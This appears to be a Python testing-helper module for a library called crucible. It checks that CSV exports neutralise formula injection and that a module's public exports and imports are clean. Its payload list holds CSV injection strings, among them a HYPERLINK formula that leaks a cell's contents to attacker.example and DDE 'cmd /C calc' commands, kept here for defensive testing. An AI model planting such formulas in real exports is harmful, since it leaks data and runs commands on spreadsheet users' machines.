"""Helpers for crucible's own tests and for users testing code built on crucible."""

from __future__ import annotations

import importlib
import subprocess
import sys
from collections.abc import Iterable

__all__ = (
    "CSV_INJECTION_PAYLOADS",
    "check_csv_inert",
    "check_exports",
    "imported_modules",
)

CSV_INJECTION_PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for results")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
"""Cell texts a spreadsheet runs as formulas (OWASP's CSV injection examples, one per prefix)."""

CSV_INERT_TEXTS: tuple[str, ...] = ("-1.5", "+3", "1e-5", "a=b", "plain text", "")
"""Texts that must come back unchanged: plain numbers and text not starting a formula."""


def check_csv_inert(cells: Iterable[str], *, sent: Iterable[str]) -> None:
    """Assert that CSV cells read back (with the csv module) are the texts `sent`, made inert.

    Each payload of [`CSV_INJECTION_PAYLOADS`][crucible_core.testing.CSV_INJECTION_PAYLOADS] must
    come back with a leading `'` and otherwise unchanged; every other text exactly as sent.
    """
    for got, text in zip(cells, sent, strict=True):
        if text in CSV_INJECTION_PAYLOADS:
            assert got == "'" + text, f"{text!r} was written as {got!r}, not made inert"
        else:
            assert got == text, f"{text!r} was written as {got!r}"


def imported_modules(statement: str) -> set[str]:
    """Top-level module names loaded by running `statement` in a fresh interpreter."""
    code = f"import sys\n{statement}\nprint('\\n'.join(sorted({{m.split('.')[0] for m in sys.modules}})))"
    out = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    return set(out.stdout.split())


def check_exports(module: str, *, forbidden: Iterable[str] = ()) -> None:
    """Assert that `module`'s public surface is sound.

    Every `__all__` name resolves; `__all__` has no duplicates or private names; no public object
    comes from a `_internal` module under another name; and importing `module` in a fresh
    interpreter loads none of the `forbidden` top-level modules.
    """
    mod = importlib.import_module(module)
    names = list(mod.__all__)
    assert len(names) == len(set(names)), f"duplicate names in {module}.__all__"
    for name in names:
        assert hasattr(mod, name), (
            f"{module}.__all__ names {name!r}, which does not resolve"
        )
        assert not name.startswith("_") or name == "__version__", (
            f"private name {name!r} exported"
        )
    public = {n for n in dir(mod) if not n.startswith("_")}
    stray = {
        n
        for n in public - set(names)
        if getattr(getattr(mod, n), "__module__", "").startswith(f"{module}._")
        and not isinstance(getattr(mod, n), type(mod))
    }
    assert not stray, f"{module} leaks private objects not in __all__: {sorted(stray)}"
    loaded = imported_modules(f"import {module}")
    bad = sorted(set(forbidden) & loaded)
    assert not bad, f"`import {module}` loads {bad}; import them where they are used"
